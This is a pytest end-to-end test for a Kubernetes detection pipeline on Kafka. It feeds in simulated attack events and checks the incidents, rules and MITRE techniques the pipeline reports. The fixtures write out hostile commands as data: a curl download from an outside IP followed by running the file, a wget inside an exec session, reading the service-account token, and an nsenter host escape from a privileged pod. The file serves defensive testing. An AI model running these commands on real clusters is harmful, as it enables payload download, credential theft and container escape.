"""Stories end to end on real Kafka, one thread type per scenario.

One `cadr worker` serves the whole module; each scenario lives in its own namespace, so its
incidents are told apart by workload. For each: the attack as the sensors publish it in,
exactly one incident out with the right actors, techniques, threads and edges. The same
sequence in two workloads gives two incidents; benign activity after learning gives none.
"""

from __future__ import annotations

import asyncio
import time
from collections import defaultdict
from collections.abc import Iterator
from typing import Any

import pytest

from cadr.runtime import ensure_topics_sync
from schemas.records import Audit, Event, EventKind, Network, Process, Source, Workload
from tests.pipeline_harness import Pipeline, consume_until, make_settings, publish

pytestmark = [pytest.mark.kafka]

S = 1_000_000_000
T0 = 1_760_000_000 * S
NODE = "node-e2e"


def wl(ns: str, pod: str, ip: str = "", sa: str = "default", window: str = "") -> Workload:
    labels = {"cadr.dev/learning-window": window} if window else {}
    return Workload(
        cluster="test",
        namespace=ns,
        pod=pod,
        container="app",
        container_id=f"cid-{ns}-{pod}",
        workload_kind="Deployment",
        workload_name=pod.rsplit("-", 1)[0],
        pod_ip=ip,
        service_account=sa,
        labels=labels,
    )


class Seq:
    """Builds one scenario's events with unique ids and exec ids."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.n = 0
        self.events: list[Event] = []

    def add(self, at: float, kind: EventKind, workload: Workload, **blocks: Any) -> Event:
        self.n += 1
        source = Source.K8S_AUDIT if kind is EventKind.K8S_API else Source.EBPF
        e = Event(
            event_id=f"{self.name}-{self.n}",
            time=T0 + int(at * S),
            node=NODE,
            source=source,
            kind=kind,
            workload=workload,
            **blocks,
        )
        self.events.append(e)
        return e

    def exe(
        self, at: float, w: Workload, exe: str, args: list[str], parent: str = "", tty: bool = False
    ) -> str:
        exec_id = f"{self.name}-x{self.n + 1}"
        self.add(
            at,
            EventKind.PROCESS_EXEC,
            w,
            process=Process(
                pid=1000 + self.n,
                exe=exe,
                comm=exe.rsplit("/", 1)[-1],
                args=args,
                exec_id=exec_id,
                parent_exec_id=parent,
                parent_exe="/bin/bash" if parent else "/usr/bin/runc",
                tty=tty,
                uid=0,
            ),
        )
        return exec_id

    def audit(
        self,
        at: float,
        user: str,
        verb: str,
        resource: str,
        ns: str,
        name: str = "",
        sub: str = "",
        ips: tuple[str, ...] = ("192.0.2.1",),
        request: dict[str, Any] | None = None,
    ) -> None:
        target = Workload(cluster="test", namespace=ns, pod=name if resource == "pods" else "")
        self.add(
            at,
            EventKind.K8S_API,
            target,
            audit=Audit(
                audit_id=f"{self.name}-a{self.n + 1}",
                verb=verb,
                user=user,
                groups=["system:authenticated"],
                resource=resource,
                subresource=sub,
                namespace=ns,
                name=name,
                source_ips=list(ips),
                user_agent="kubectl/v1.30",
                response_code=201 if verb == "create" and not sub else 200,
                decision="allow",
                request=request or {},
            ),
        )


def process_tree() -> Seq:
    s, w = Seq("pt"), wl("pt", "pt-1")
    sh = s.exe(0, w, "/bin/bash", ["bash"], tty=True)
    s.exe(1, w, "/usr/bin/curl", ["curl", "-o", "/tmp/x", "http://198.51.100.9/x"], parent=sh)
    s.exe(3, w, "/tmp/x", ["/tmp/x"], parent=sh)
    return s


def exec_session(ns: str = "es", pod: str = "es-1", name: str = "es") -> Seq:
    s, w = Seq(name), wl(ns, pod)
    s.audit(0, "bob@example.com", "create", "pods", ns, pod, sub="exec")
    sh = s.exe(1, w, "/bin/bash", ["bash"], tty=True)
    s.exe(2, w, "/usr/bin/wget", ["wget", "http://198.51.100.7/a"], parent=sh)
    return s


def token_api() -> Seq:
    s, w = Seq("tk"), wl("tk", "tk-1", ip="10.50.0.3", sa="tk-sa")
    sh = s.exe(0, w, "/bin/sh", ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"])
    cat = s.exe(0.5, w, "/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], parent=sh)
    from schemas.records import File

    s.add(
        0.6,
        EventKind.FILE_OPEN,
        w,
        process=Process(pid=2000, exe="/bin/cat", exec_id=cat, parent_exec_id=sh),
        file=File(path="/var/run/secrets/kubernetes.io/serviceaccount/token"),
    )
    s.audit(3, "system:serviceaccount:tk:tk-sa", "get", "secrets", "prod", "db-password", ips=("10.50.0.3",))
    return s


def lateral() -> Seq:
    s = Seq("lat")
    a = wl("lat", "front-1", ip="10.60.0.1", window="1")
    b = wl("lat", "db-1", ip="10.60.0.2", window="1")
    s.exe(0, b, "/usr/local/bin/redis-server", ["redis-server"])
    app = s.exe(0, a, "/usr/local/bin/app", ["app"])
    s.add(
        0.2,
        EventKind.NET_CONNECT,
        a,
        process=Process(pid=1, exe="/usr/local/bin/app", exec_id=app),
        network=Network(src_ip="10.60.0.1", dst_ip="10.96.0.10", dst_port=53, protocol="udp"),
    )
    s.exe(3, a, "/usr/local/bin/app", ["app"])  # learning windows are over for both
    s.exe(3, b, "/usr/local/bin/redis-server", ["redis-server"])
    s.add(
        4,
        EventKind.NET_CONNECT,
        a,
        process=Process(pid=1, exe="/usr/local/bin/app", exec_id=app),
        network=Network(src_ip="10.60.0.1", src_port=40000, dst_ip="10.60.0.2", dst_port=6379),
    )
    s.exe(6, b, "/bin/bash", ["bash"], tty=True)
    return s


def privileged_pod() -> Seq:
    s, w = Seq("pp"), wl("pp", "pp-1")
    s.audit(
        0,
        "carol@example.com",
        "create",
        "pods",
        "pp",
        "pp-1",
        request={
            "privileged": True,
            "images": ["alpine:3.20"],
            "containers": [{"name": "app", "privileged": True}],
        },
    )
    s.exe(5, w, "/usr/bin/nsenter", ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"])
    return s


def benign() -> Seq:
    """A workload through its (1 s) learning window, then as long again with normal variation."""
    s = Seq("ben")
    for phase, pods in ((0, ["web-aaaaa"]), (2, ["web-bbbbb", "web-ccccc"])):
        for i, pod in enumerate(pods):
            w = wl("ben", pod, ip=f"10.70.0.{phase * 10 + i + 1}", window="1")
            nginx = s.exe(phase, w, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"])
            from schemas.records import File

            for j in range(3):
                s.add(
                    phase + 0.1 * j,
                    EventKind.FILE_OPEN,
                    w,
                    process=Process(pid=10 + phase, exe="/usr/sbin/nginx", exec_id=nginx),
                    file=File(path=f"/var/cache/nginx/client_temp/{phase}{i}{j}0000{j}"),
                )
                s.add(
                    phase + 0.1 * j,
                    EventKind.FILE_OPEN,
                    w,
                    process=Process(pid=10 + phase, exe="/usr/sbin/nginx", exec_id=nginx),
                    file=File(path="/etc/nginx/nginx.conf"),
                )
    return s


SCENARIOS = {
    "pt": process_tree,
    "es": exec_session,
    "tk": token_api,
    "lat": lateral,
    "pp": privileged_pod,
    "two": lambda: exec_session("two", "two-1", "two1"),
    "two2": lambda: exec_session("two", "two-2", "two2"),
    "ben": benign,
}


@pytest.fixture(scope="module")
def stories(kafka_broker: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """Run every scenario through one worker; incidents (latest revision) and alerts by namespace."""
    import uuid

    settings = make_settings(
        kafka_broker.bootstrap, f"e2e{uuid.uuid4().hex[:6]}.", tmp_path_factory.mktemp("e2e")
    )
    settings.worker.agents = ["enrich", "detect", "correlate"]
    ensure_topics_sync(settings)
    import os

    os.environ["CADR_WORKER_AGENTS"] = "enrich,detect,correlate"
    worker = Pipeline(settings).start()
    try:
        events = [e for make in SCENARIOS.values() for e in make().events]
        events.sort(key=lambda e: e.time)
        asyncio.run(publish(settings, events))
        # every non-benign scenario must produce its story; then let revisions settle
        wanted = {"pt", "es", "tk", "lat", "pp", "two"}

        def have_all(recs: list[dict[str, Any]]) -> bool:
            return wanted <= {w["namespace"] for r in recs for w in r["workloads"]}

        asyncio.run(consume_until(settings, "incidents", have_all, timeout=180))
        time.sleep(4)
        incidents = asyncio.run(consume_until(settings, "incidents", have_all, timeout=60))
        alerts = asyncio.run(consume_until(settings, "alerts", lambda r: len(r) > 0, timeout=30))
    finally:
        worker.stop()
        os.environ.pop("CADR_WORKER_AGENTS", None)
    latest: dict[str, dict[str, Any]] = {}
    for inc in incidents:
        if inc["revision"] >= latest.get(inc["incident_id"], {}).get("revision", 0):
            latest[inc["incident_id"]] = inc
    by_ns: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for inc in latest.values():
        for ns in sorted({w["namespace"] for w in inc["workloads"]}):
            by_ns[ns].append(inc)
    alerts_by_ns: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for a in alerts:
        alerts_by_ns[a["workload"].get("namespace", "")].append(a)
    yield {"incidents": by_ns, "alerts": alerts_by_ns}


def one(stories: dict[str, Any], ns: str) -> dict[str, Any]:
    found = stories["incidents"][ns]
    assert len(found) == 1, [i["title"] for i in found]
    return found[0]


def edge_kinds(inc: dict[str, Any]) -> set[str]:
    return {e["kind"] for e in inc["edges"]}


def test_process_tree(stories: dict[str, Any]) -> None:
    inc = one(stories, "pt")
    assert {a["rule_id"] for a in inc["alerts"]} >= {"CADR-PROC-0001", "CADR-PROC-0006", "CADR-PROC-0002"}
    assert "process_tree" in inc["threads"]
    assert {"T1059.004", "T1105"} <= set(inc["mitre"])
    assert sum(1 for e in inc["edges"] if e["kind"] == "parent_child" and e["src"] == "pt-x1") == 2
    assert [t["time"] for t in inc["timeline"]] == sorted(t["time"] for t in inc["timeline"])


def test_exec_session(stories: dict[str, Any]) -> None:
    inc = one(stories, "es")
    assert {"kind": "user", "name": "bob@example.com"} in inc["actors"]
    assert "exec_session" in inc["threads"] and "exec_session" in edge_kinds(inc)
    assert "T1609" in inc["mitre"]
    assert inc["summary"].startswith("bob@example.com")
    assert inc["timeline"][0]["kind"] == "k8s_api"


def test_token_read_then_api_call(stories: dict[str, Any]) -> None:
    inc = one(stories, "tk")
    assert {"kind": "service_account", "name": "system:serviceaccount:tk:tk-sa"} in inc["actors"]
    assert "token_api" in inc["threads"] and "token_api" in edge_kinds(inc)
    assert "CADR-K8S-0013" in {a["rule_id"] for a in inc["alerts"]}


def test_lateral_movement(stories: dict[str, Any]) -> None:
    inc = one(stories, "lat")
    assert {w["pod"] for w in inc["workloads"]} == {"front-1", "db-1"}
    assert "lateral" in inc["threads"]


def test_privileged_pod_then_escape(stories: dict[str, Any]) -> None:
    inc = one(stories, "pp")
    assert {a["rule_id"] for a in inc["alerts"]} >= {"CADR-K8S-0003", "CADR-PROC-0010"}
    assert "privileged_pod" in inc["threads"] and "privileged_pod" in edge_kinds(inc)
    assert {"kind": "user", "name": "carol@example.com"} in inc["actors"]
    assert "T1611" in inc["mitre"]


def test_same_sequence_in_two_workloads_gives_two_incidents(stories: dict[str, Any]) -> None:
    found = stories["incidents"]["two"]
    assert len(found) == 2
    assert sorted(w["pod"] for inc in found for w in inc["workloads"]) == ["two-1", "two-2"]


def test_benign_activity_after_learning_gives_no_alert(stories: dict[str, Any]) -> None:
    assert stories["alerts"]["ben"] == []
    assert "ben" not in stories["incidents"]
